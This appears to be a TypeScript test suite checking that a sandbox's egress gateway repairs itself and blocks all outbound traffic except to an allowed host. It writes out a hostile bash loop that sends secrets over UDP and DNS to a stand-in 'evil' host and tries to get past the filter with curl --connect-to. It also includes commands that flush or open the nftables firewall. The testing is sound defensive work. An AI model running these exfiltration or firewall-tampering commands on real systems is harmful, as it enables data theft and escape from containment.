import { eventually, useProject } from "./harness.ts";

const project = useProject();
const { engine, internet } = project;
const acme = project.client("acme", { egress: { allow: ["allowed.test"] } });

beforeAll(() => acme.mustUp());

/** The sandbox does what its file says: the allowed name is reached, nothing else is. */
async function expectWhole() {
  expect(await engine.inspect(acme.agent)).toMatchObject({ State: { Status: "running" } });
  const allowed = await eventually(
    () => acme.curl("https://allowed.test/"),
    ({ code }) => code === 0,
  );
  expect(allowed.stdout).toContain("site=allowed.test");
  expect((await acme.curl("https://evil.test/")).code).not.toBe(0);
  expect((await acme.curl("https://neighbour.test/")).code).not.toBe(0);
  expect((await acme.curl(`http://${internet.addresses.evil}/`, "--max-time", "2")).code).not.toBe(0);
}

describe("`up --refresh` repairs a sandbox", () => {
  const remove = (name: string) => engine.ask("rm", "--force", name);

  test.each<[string, () => Promise<unknown>]>([
    ["whose agent and gateway were stopped", () => engine.ask("stop", "--time", "1", acme.agent, acme.gateway)],
    ["whose agent was removed", () => remove(acme.agent)],
    ["whose gateway was removed", () => remove(acme.gateway)],
    [
      "whose containers and inner network were removed",
      async () => [
        await remove(acme.agent),
        await remove(acme.gateway),
        await engine.ask("network", "rm", `${acme.name}-inner`),
      ],
    ],
    [
      "whose secrets were removed with their volume",
      async () => [await remove(acme.agent), await engine.ask("volume", "rm", `${acme.name}-secrets`)],
    ],
    [
      "whose policy was removed with its volume",
      async () => [await remove(acme.gateway), await engine.ask("volume", "rm", `${acme.name}-policy`)],
    ],
    ["of which everything was removed", () => engine.remove(acme.name)],
  ])("%s", async (_what, sabotage) => {
    await sabotage();
    await acme.mustUp("--refresh");
    await expectWhole();
    // The lab's CA is one of the delivered files.
    expect((await acme.exec("ls /run/secrets/ca")).stdout).toBe("0.pem\n");
  });

  test("and then has nothing left to do", async () => {
    expect((await acme.mustUp("--refresh")).stdout).toMatch(/Resources:\s+\d+ unchanged\n/);
  });
});

describe("without any command, a sandbox", () => {
  const { evil } = internet.addresses;
  // All the while somebody inside tries to get out, by every way that needs no capability.
  const hostile = `while :; do
    echo secret > /dev/udp/${evil}/9999; getent hosts secret.evil.test
    curl -sk -m 1 https://${evil}/; curl -sk -m 1 --connect-to evil.test:443:allowed.test:443 https://evil.test/
  done &> /dev/null`;
  const attack = () => engine.ask("exec", "--detach", acme.agent, "bash", "-c", hostile);

  beforeAll(attack);

  test("comes back when its gateway dies, and is shut meanwhile", async () => {
    const { gateway } = await acme.running();
    const { State } = await engine.inspect(acme.gateway);
    // From outside: inside its namespace nobody can kill the first process.
    process.kill(State.Pid, "SIGKILL");
    await eventually(
      async () => (await acme.running()).gateway,
      (now) => now.includes("running") && now !== gateway,
    );
    await expectWhole();
  });

  test("comes back when all programs of its gateway are killed at once", async () => {
    await engine.run("exec", acme.gateway, "bash", "-c", "kill -9 -1");
    await expectWhole();
  });

  test("comes back when its gateway is restarted", async () => {
    await engine.ask("restart", "--time", "0", acme.gateway);
    await expectWhole();
  });

  test("comes back when its agent restarts", async () => {
    await engine.ask("restart", "--time", "1", acme.agent);
    await attack();
    await expectWhole();
  });

  test("repairs a firewall that somebody emptied", async () => {
    const rules = async () => (await engine.run("exec", acme.gateway, "nft", "list", "ruleset")).stdout;
    const drops = (text: string) => text.match(/policy drop/g)?.length ?? 0;
    const whole = drops(await rules());
    expect(whole).toBeGreaterThan(0);
    await engine.ask("exec", acme.gateway, "nft", "flush", "ruleset");
    await eventually(rules, (text) => drops(text) === whole);
    await expectWhole();
  });

  test("repairs a firewall that somebody opened a little", async () => {
    const rules = async () => (await engine.run("exec", acme.gateway, "nft", "list", "ruleset")).stdout;
    const chain = /table inet (\S+) \{(?:.|\n)*?chain (\S+) \{[^}]*hook output/.exec(await rules())!;
    await engine.ask(
      "exec",
      acme.gateway,
      "nft",
      "insert",
      "rule",
      "inet",
      chain[1]!,
      chain[2]!,
      "ip",
      "daddr",
      internet.addresses.evil,
      "accept",
    );
    await eventually(rules, (text) => !text.includes(internet.addresses.evil));
    await expectWhole();
  });

  test("let nothing through in all of this", async () => {
    expect(await internet.reached("evil.test")).toEqual({ packets: 0, bytes: 0, connections: 0 });
    expect((await internet.reached("neighbour.test")).connections).toBe(0);
    expect(await internet.asked("evil.test")).toBe(0);
  });
});
